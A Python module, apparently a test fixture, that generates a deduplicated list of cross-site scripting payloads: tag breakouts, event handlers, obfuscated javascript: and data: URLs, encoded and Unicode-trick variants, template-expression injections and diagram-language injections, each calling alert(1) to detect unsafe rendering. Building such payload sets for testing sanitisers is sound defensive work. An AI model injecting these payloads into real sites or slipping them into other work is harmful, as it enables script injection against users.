"""Texts that would run script where text is taken for markup: parts that are put together in every way.

Each tries to call `alert(1)`, so that whoever puts them into a page can tell whether one ran.
"""

from itertools import product

CALL = "alert(1)"

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</svg>",
    "-->",
    "]]>",
    "`>",
    '\\">',
)

_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=data:,alert(1)></script>",
    "<script src='/static/app.js?alert(1)'></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror='{CALL}'>",
    f"<img src=x onerror=\n{CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
    "<style>@import 'javascript:alert(1)';</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
)

_HANDLERS = (
    "onclick",
    "onmouseover",
    "onfocus",
    "onerror",
    "onload",
    "onpointerenter",
    "onanimationstart",
    "onwheel",
)
_QUOTES = ('"', "'", "`", "")

_ADDRESSES = tuple(
    f"{scheme}{CALL}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "jav&#x09;ascript:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/",
        "feed:javascript:",
        "view-source:javascript:",
    )
)

_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "<\u200bscript>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<sc\x00ript>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
)

_EXPRESSIONS = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{%alert(1)%}",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "*/alert(1)/*",
    "</script><script>alert(1)//",
    "__proto__",
    "constructor",
    "toString",
)

_DRAWING = (
    'x"] -> y [URL="javascript:alert(1)"',
    'x"; URL="javascript:alert(1)"; y="',
    'x\\" URL="javascript:alert(1)',
    "<<table><tr><td href='javascript:alert(1)'>x</td></tr></table>>",
    "\\N\\G\\E\\T\\H\\L",
    'x"]\nclick p1 "javascript:alert(1)"',
    'x"]; click p1 call alert(1)',
    "%%{init: {'securityLevel': 'loose'}}%% click p1 href 'javascript:alert(1)'",
    "x#quot;]#59;click p1 call alert(1)",
    "end\nsubgraph <img src=x onerror=alert(1)>",
    "---\nconfig:\n  securityLevel: loose\n---\nclick p1 call alert(1)",
)


def _all() -> tuple[str, ...]:
    found = [breakout + element for breakout, element in product(_BREAKOUTS, _ELEMENTS)]
    found += [
        f"{quote} {handler}={quote or chr(34)}{CALL}{quote or chr(34)} x={quote}"
        for handler, quote in product(_HANDLERS, _QUOTES)
    ]
    found += [*_ADDRESSES, *_ENCODED, *_EXPRESSIONS, *_DRAWING]
    return tuple(dict.fromkeys(found))


PAYLOADS = _all()
"""All of them, each once."""
